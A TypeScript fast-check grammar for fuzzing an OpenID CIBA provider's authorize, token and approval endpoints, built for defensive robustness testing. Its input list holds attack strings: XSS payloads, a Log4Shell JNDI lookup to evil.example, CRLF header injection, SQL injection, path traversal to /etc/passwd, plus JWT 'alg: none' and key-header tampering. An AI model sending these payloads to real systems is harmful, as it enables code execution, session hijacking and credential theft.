/**
 * The grammar of the fuzzer: valid requests to both endpoints of the protocol and to the approval
 * page, of every client authentication method, hint, grant and state of a request, and up to three
 * faults in each of them. All of it is plain data, so that a case that fails can be read, repeated
 * and made smaller.
 */
import fc from 'fast-check';
import { anyText } from './any-text.ts';

/** How the client of a case authenticates; each is a registered client of the fuzzed provider. */
export const clientKinds = ['basic', 'post', 'secret-jwt', 'key-jwt'] as const;

export type ClientKind = (typeof clientKinds)[number];

/** What has become of the authentication request that a case speaks of, before the case begins. */
export const requestStates = [
  'pending',
  'approved',
  'denied',
  'expired',
  'failed',
  'redeemed',
  'foreign',
  'unknown',
] as const;

export type RequestState = (typeof requestStates)[number];

/** A fault in one form field; `at` picks the field, `text` and `position` say how. */
export interface FieldFault {
  kind: 'field';
  at: number;
  how: 'drop' | 'twice' | 'empty' | 'replace' | 'append' | 'prepend' | 'cut' | 'flip' | 'rename';
  text: string;
  position: number;
}

/** A fault in how the body is written. */
export interface BodyFault {
  kind: 'body';
  how: 'octets' | 'all percent' | 'raw' | 'lower case';
  octets: number[];
  position: number;
}

/** A fault in a JWT of the request: a member of its header or claims, or its text. */
export type JwtFault =
  | {
      kind: 'jwt member';
      part: 'header' | 'claims';
      name: string;
      value: unknown;
      position: number;
    }
  | { kind: 'jwt text'; how: (typeof jwtTextFaults)[number]; position: number };

export const jwtTextFaults = [
  'flip',
  'cut',
  'wrong key',
  'no signature',
  'other part',
  'padding',
  'member twice',
  'deep',
  'not UTF-8',
] as const;

/** A change of the world between the request's past and now. */
export const worldFaults = [
  'client disabled',
  'client without grant',
  'client with less scope',
  'client gone',
  'user disabled',
  'user moved',
  'user gone',
] as const;

export type Fault =
  | FieldFault
  | BodyFault
  | JwtFault
  | { kind: 'add'; name: string; text: string }
  | { kind: 'header'; name: string; value: string }
  | { kind: 'method'; method: string }
  | { kind: 'address'; how: 'query' | 'flip' | 'cut' | 'replace'; text: string; position: number }
  | { kind: 'world'; what: (typeof worldFaults)[number] };

interface Shared {
  client: ClientKind;
  faults: Fault[];
  /** Seconds that pass before the request is sent. */
  wait: number;
  /** How often it is sent, in the same words. */
  times: number;
  /** Whether the gateway hands the body on in base64. */
  base64: boolean;
}

export interface AuthorizeCase extends Shared {
  endpoint: 'authorize';
  scope: string;
  hint: 'login_hint' | 'id_token_hint' | 'login_hint_token';
  login: string;
  /** Whether a login_hint_token is past its end. */
  hintEnded: boolean;
  bindingMessage: string | undefined;
  expiry: string | undefined;
}

export interface TokenCase extends Shared {
  endpoint: 'token';
  grant: 'ciba' | 'refresh';
  state: RequestState;
  scope: string | undefined;
}

export interface ApproveCase extends Shared {
  endpoint: 'approve';
  state: RequestState;
  method: 'GET' | 'POST';
  decision: string;
  /** What is stored, as if no check had been in its way. */
  bindingMessage: string;
  clientName: string;
  /**
   * How often a code was wrong before, where the message has to be typed, and what is typed now.
   */
  wrongCodes: 0 | 2 | undefined;
  typed: 'the code' | undefined | { text: string };
}

export type FuzzCase = AuthorizeCase | TokenCase | ApproveCase;

/**
 * Texts that once broke something somewhere: markup, templates, headers, JSON, other scripts'
 * tricks, numbers.
 */
const brokenSomewhere = [
  '<script>alert(document.domain)</script>',
  '"><img src=x onerror=alert(1)>',
  "' autofocus onfocus=alert(1) x='",
  '</title></style><svg onload=alert(1)>',
  '&lt;b&gt;&#60;i&#62;&amp;',
  '{{constructor.constructor("return 1")()}}',
  '${jndi:ldap://evil.example/a}',
  'value\r\nSet-Cookie: injected=yes\r\n\r\nbody',
  '","sub":"injected","x":"',
  '__proto__',
  'constructor',
  'toString',
  "' OR '1'='1' --",
  '../../../../etc/passwd',
  'https://evil.example/path?query=1',
  'https://ciba.example/acr/code/',
  'mailto:mallory@evil.example',
  'mallory@evil.example',
  'admin\u0000alice',
  '\ufeffalice',
  'a\u202eecila\u202c',
  '\u2066\u2067hidden\u2069',
  'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306',
  '\u0430lice\u200b\u200d',
  'ﬁne ＜full＞ ｗｉｄｔｈ',
  '\ud83d\ude00\ud83c\udff3\ufe0f\u200d\ud83c\udf08',
  '\ud800 alone \udc00',
  'İIıi ẞß',
  '٣٤٥',
  '-1',
  '0',
  '1e9',
  '9999999999',
  '99999999999999999999999999',
  'NaN',
  '%00',
  '%25%32%35',
  '%',
  ' ',
  '\t\n',
];

/** A text of any kind, of up to some hundred characters; once in a while a huge one. */
export const oddText: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...brokenSomewhere) },
  { weight: 4, arbitrary: anyText(60) },
  { weight: 2, arbitrary: fc.stringMatching(/^[a-z2-7]{20,30}\.[A-Za-z0-9_-]{40,46}$/) },
  { weight: 2, arbitrary: fc.stringMatching(/^[A-Za-z0-9 ._~-]{1,40}$/) },
  { weight: 1, arbitrary: anyText(12, 1).map((text) => text.repeat(2000)) },
);

const parameterNames = [
  'scope',
  'login_hint',
  'id_token_hint',
  'login_hint_token',
  'binding_message',
  'requested_expiry',
  'acr_values',
  'user_code',
  'client_notification_token',
  'request',
  'authorization_details',
  'client_id',
  'client_secret',
  'client_assertion',
  'client_assertion_type',
  'grant_type',
  'auth_req_id',
  'refresh_token',
  'form_token',
  'decision',
  '__proto__',
  'toString',
];

const grantTypes = [
  'urn:openid:params:grant-type:ciba',
  'refresh_token',
  'authorization_code',
  'client_credentials',
  'password',
];

const scopes = [
  'openid',
  'openid profile',
  'openid profile email offline_access',
  'openid  profile',
  'profile',
  'email',
  'openid payments',
  'openid OPENID',
  'openid __proto__',
  'ópenid',
];

const fieldFault: fc.Arbitrary<Fault> = fc.record({
  kind: fc.constant('field'),
  at: fc.nat(12),
  how: fc.constantFrom(
    'drop',
    'twice',
    'empty',
    'replace',
    'append',
    'prepend',
    'cut',
    'flip',
    'rename',
  ),
  text: fc.oneof(oddText, fc.constantFrom(...grantTypes, ...scopes, ...parameterNames)),
  position: fc.nat(200),
});

const oddOctets = [
  '%',
  '%zz',
  '%c3',
  '%c3%28',
  '%ed%a0%80',
  '%00',
  '%u0041',
  '&',
  '&&=&',
  '=',
  ';',
  '+',
  '?',
  '#',
].map((text) => [...Buffer.from(text)]);

const bodyFault: fc.Arbitrary<Fault> = fc.record({
  kind: fc.constant('body'),
  how: fc.constantFrom('octets', 'octets', 'octets', 'all percent', 'raw', 'lower case'),
  octets: fc.oneof(
    fc.constantFrom<number[][]>(
      [0],
      [0xef, 0xbb, 0xbf],
      [0xff, 0xfe],
      [0xc0, 0x80],
      [0xed, 0xa0, 0x80],
      [0x80],
    ),
    fc.constantFrom<number[][]>(...oddOctets),
    fc.array(fc.nat(255), { minLength: 1, maxLength: 12 }),
  ),
  position: fc.oneof(fc.constant(0), fc.nat(600)),
});

/** Values that a member of a JWT may have instead of its own; `undefined` takes it away. */
const jsonValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(undefined, null, true, 0, -1, 1.5, 1e300, '', [], {}, [''], [[]]),
  fc.constantFrom<unknown>(
    'none',
    'None',
    'HS256',
    'HS512',
    'RS256',
    'ES256',
    'PS256',
    'EdDSA',
    'at+jwt',
    'JWT',
    'application/jwt',
    'https://ciba.example/token',
    ['https://ciba.example'],
    ['https://ciba.example', 'https://evil.example'],
    'desk-1',
    'pump-4',
    'u-alice',
  ),
  fc.integer({ min: 1_699_990_000, max: 1_700_010_000 }),
  oddText,
);

const jwtFault: fc.Arbitrary<Fault> = fc.oneof(
  fc.record({
    kind: fc.constant('jwt member' as const),
    part: fc.constant('header' as const),
    name: fc.constantFrom('alg', 'kid', 'typ', 'jwk', 'jku', 'x5u', 'x5c', 'crit', 'b64', 'zip'),
    value: jsonValue,
    position: fc.nat(1),
  }),
  fc.record({
    kind: fc.constant('jwt member' as const),
    part: fc.constant('claims' as const),
    name: fc.constantFrom(
      'iss',
      'sub',
      'aud',
      'exp',
      'iat',
      'nbf',
      'jti',
      'username',
      'email',
      '__proto__',
    ),
    value: jsonValue,
    position: fc.nat(1),
  }),
  fc.record({
    kind: fc.constant('jwt text' as const),
    how: fc.constantFrom(...jwtTextFaults),
    position: fc.nat(600),
  }),
);

/** Base64 of a pair as the Basic scheme has it, well-formed or not. */
const basicValue = fc.oneof(
  fc
    .tuple(fc.oneof(fc.constant('pump-4'), oddText), oddText)
    .map(([id, secret]) => `Basic ${Buffer.from(`${id}:${secret}`).toString('base64')}`),
  fc.constantFrom('Basic', 'Basic ', 'Basic =', 'Basic cHVtcC00', 'basic cHVtcC00Og==', 'Bearer x'),
  fc.constantFrom('Digest username="alice"', 'Basic cHVtcC00Og==, Basic cHVtcC00Og==', ''),
  oddText.map((text) => `Basic ${text}`),
  fc
    .constantFrom('pump-4:%zz', '%c3:x', 'pump-4:%', ':', 'pump-4', 'pump-4:%00', 'a:b:c')
    .map((pair) => `Basic ${Buffer.from(pair).toString('base64')}`),
);

const contentTypes = [
  'application/x-www-form-urlencoded; charset=utf-8',
  'application/x-www-form-urlencoded;charset="UTF-8"',
  'application/x-www-form-urlencoded; charset=iso-8859-1',
  'application/x-www-form-urlencoded, text/plain',
  'APPLICATION/X-WWW-FORM-URLENCODED',
  'application/json',
  'multipart/form-data; boundary=x',
  'text/plain',
  '',
];

/** As long as API Gateway takes it, of one thing again and again. */
const grownText = fc
  .tuple(fc.oneof(oddText, fc.constantFrom(' ', 'a-', ',', ';', '"')), fc.nat(10_000))
  .map(([unit, length]) => `${unit}x`.repeat(length).slice(0, length));

const headerFault: fc.Arbitrary<Fault> = fc
  .oneof(
    basicValue.map((value) => ['authorization', value] as const),
    fc.constantFrom(...contentTypes).map((value) => ['content-type', value] as const),
    fc
      .constantFrom('https://ciba.example', 'https://evil.example', 'null', 'http://ciba.example')
      .map((value) => ['origin', value] as const),
    fc
      .constantFrom('same-origin', 'same-site', 'cross-site', 'none', 'x')
      .map((value) => ['sec-fetch-site', value] as const),
    fc.tuple(
      fc.constantFrom('host', 'x-forwarded-host', 'forwarded', 'cookie', 'accept', 'x-odd', 'dpop'),
      oddText,
    ),
    fc
      .constantFrom('gzip', 'br', 'x-odd', 'gzip, br', 'identity', '')
      .map((value) => ['content-encoding', value] as const),
    fc.tuple(oddText, oddText),
    fc.tuple(
      fc.constantFrom('content-type', 'accept-language', 'authorization', 'x-odd'),
      grownText,
    ),
  )
  .map(([name, value]) => ({ kind: 'header', name, value }));

const anyFault: fc.Arbitrary<Fault> = fc.oneof(
  { weight: 6, arbitrary: fieldFault },
  { weight: 3, arbitrary: bodyFault },
  { weight: 4, arbitrary: jwtFault },
  { weight: 3, arbitrary: headerFault },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('add'),
      name: fc.oneof(fc.constantFrom(...parameterNames), oddText),
      text: oddText,
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('add'),
      // Refused wherever it stands, which few of the many parameters of any name would show.
      name: fc.constant('authorization_details'),
      text: fc.oneof(fc.constantFrom('[]', '[{"type":"x"}]'), oddText),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('method'),
      method: fc.constantFrom('GET', 'HEAD', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'ODD', 'TRACE'),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('address'),
      how: fc.constantFrom('query', 'flip', 'cut', 'replace'),
      text: oddText,
      position: fc.nat(70),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({ kind: fc.constant('world'), what: fc.constantFrom(...worldFaults) }),
  },
);

/**
 * None, one, or a few: a single fault leaves the rest valid, so that it is met by code that lies
 * deep.
 */
const faults: fc.Arbitrary<Fault[]> = fc.oneof(
  { weight: 2, arbitrary: fc.constant<Fault[]>([]) },
  { weight: 6, arbitrary: anyFault.map((fault) => [fault]) },
  { weight: 2, arbitrary: fc.array(anyFault, { minLength: 2, maxLength: 3 }) },
);

const shared = {
  client: fc.constantFrom(...clientKinds),
  faults,
  wait: fc.constantFrom(0, 0, 0, 1, 2.5, 12, 119.9, 121, 700, 31 * 86_400),
  times: fc.constantFrom(1, 1, 1, 2, 3),
  base64: fc.boolean(),
};

const authorizeCase: fc.Arbitrary<AuthorizeCase> = fc.record({
  ...shared,
  endpoint: fc.constant('authorize'),
  scope: fc.constantFrom('openid', 'openid profile', 'openid profile email offline_access'),
  hint: fc.constantFrom('login_hint', 'id_token_hint', 'login_hint_token'),
  login: fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom('alice', 'Alice@Example.com', 'bob', 'nobody') },
    { weight: 1, arbitrary: oddText },
  ),
  hintEnded: fc.constantFrom(true, false, false, false, false),
  bindingMessage: fc.oneof(
    { weight: 2, arbitrary: fc.constantFrom(undefined, 'PUMP-4 50.00 EUR') },
    { weight: 1, arbitrary: oddText },
  ),
  expiry: fc.oneof(
    { weight: 3, arbitrary: fc.constant(undefined) },
    { weight: 1, arbitrary: fc.constantFrom('1', '60', '3600', '-1', '1.5', '٣', '') },
  ),
});

const tokenCase: fc.Arbitrary<TokenCase> = fc.record({
  ...shared,
  endpoint: fc.constant('token'),
  grant: fc.constantFrom('ciba', 'ciba', 'refresh'),
  // What is approved or redeemed goes deepest.
  state: fc.constantFrom(...requestStates, 'approved', 'redeemed', 'redeemed'),
  scope: fc.option(fc.constantFrom(...scopes), { nil: undefined, freq: 3 }),
});

/** What UTF-8 leaves of a text: half a surrogate pair is stored nowhere. */
function wellFormed(text: string): string {
  return Buffer.from(text).toString();
}

const approveCase: fc.Arbitrary<ApproveCase> = fc.record({
  ...shared,
  endpoint: fc.constant('approve'),
  // What is pending goes deepest.
  state: fc.constantFrom(...requestStates, 'pending', 'pending', 'pending'),
  method: fc.constantFrom('GET', 'POST'),
  decision: fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom('approve', 'deny', 'report') },
    { weight: 1, arbitrary: oddText },
  ),
  bindingMessage: oddText.map(wellFormed),
  clientName: oddText.map(wellFormed),
  wrongCodes: fc.constantFrom(undefined, undefined, 0, 2, 2),
  typed: fc.oneof(
    fc.constantFrom('the code' as const, undefined, { text: 'wrong' }),
    oddText.map((text) => ({ text })),
  ),
});

/** One case of the fuzzer, to any of the three. */
export const fuzzCase: fc.Arbitrary<FuzzCase> = fc.oneof(authorizeCase, tokenCase, approveCase);
